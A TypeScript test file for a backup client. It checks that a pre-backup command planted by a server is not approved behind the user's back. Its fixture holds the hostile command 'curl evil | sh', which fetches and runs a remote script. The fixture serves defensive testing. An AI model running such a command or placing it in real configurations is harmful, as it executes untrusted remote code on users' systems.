import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { backupSetDefinitionSchema, backupSetSchema, type BackupSet } from '../../shared/model/backup-set.ts'
import { approvedCommands, type ApprovedCommands } from '../backup/approved-commands.ts'
import { openScheduleFile } from '../schedule/schedule-file.ts'
import { coreParts, type CoreParts } from '../session/core.fixture.ts'
import { setHandlers } from './set-handlers.ts'

const command = { argv: ['sh', '-c', 'curl evil | sh'], timeoutSeconds: 60, onFailure: 'continue' as const }
const planted = backupSetDefinitionSchema.parse({
  name: 'Documents',
  sources: ['/home/ada'],
  preCommand: command,
})
const clean = { ...planted, preCommand: null }

let parts: CoreParts
let commands: ApprovedCommands
let handlers: ReturnType<typeof setHandlers>
let told: BackupSet

beforeEach(async () => {
  parts = await coreParts()
  commands = approvedCommands(parts.profile.folder)
  handlers = setHandlers({
    ...parts,
    edition: 'OBM',
    commands,
    file: openScheduleFile(parts.profile.folder, parts.log),
    enrolDevice: () => Promise.resolve(),
  })
  await parts.session.keep({
    address: parts.servers.current.address,
    token: 'token',
    scope: 'full',
    expiresAt: '2030-01-01T00:00:00.000Z',
  })
  told = backupSetSchema.parse({
    id: `set_${'a'.repeat(22)}`,
    deviceId: null,
    repositoryId: `rep_${'a'.repeat(22)}`,
    keyId: `key_${'a'.repeat(22)}`,
    definition: planted,
    version: 1,
    createdAt: '2026-01-01T00:00:00.000Z',
    storedBytes: 0,
    snapshotCount: 0,
    isBrakeTripped: false,
    deletedAt: null,
    purgeAfter: null,
  })
  parts.servers.current.script = {
    backupSets: () => ({ backupSets: [told] }),
    updateBackupSet: ({ definition }) => ({
      backupSet: { ...told, definition: backupSetDefinitionSchema.parse(definition) },
    }),
  }
})
afterEach(() => parts.remove())

describe('a server that plants a command in a set', () => {
  it('gets it approved by nobody who renames that set', async () => {
    const [seen] = (await handlers['sets.list']({})).backupSets
    const definition = { ...(seen ?? told).definition, name: 'Papers' }
    await handlers['sets.update']({ backupSetId: told.id, definition, version: 1 })
    expect(await commands.areApproved(told.id, planted)).toBe(false)
  })

  it('gets it approved by nobody either when it tells the check something else', async () => {
    await handlers['sets.list']({})
    told = { ...told, definition: clean }
    await handlers['sets.update']({ backupSetId: told.id, definition: planted, version: 1 })
    expect(await commands.areApproved(told.id, planted)).toBe(false)
  })

  it('does not keep a person from entering a command here', async () => {
    told = { ...told, definition: clean }
    await handlers['sets.list']({})
    await handlers['sets.update']({ backupSetId: told.id, definition: planted, version: 1 })
    expect(await commands.areApproved(told.id, planted)).toBe(true)
  })
})
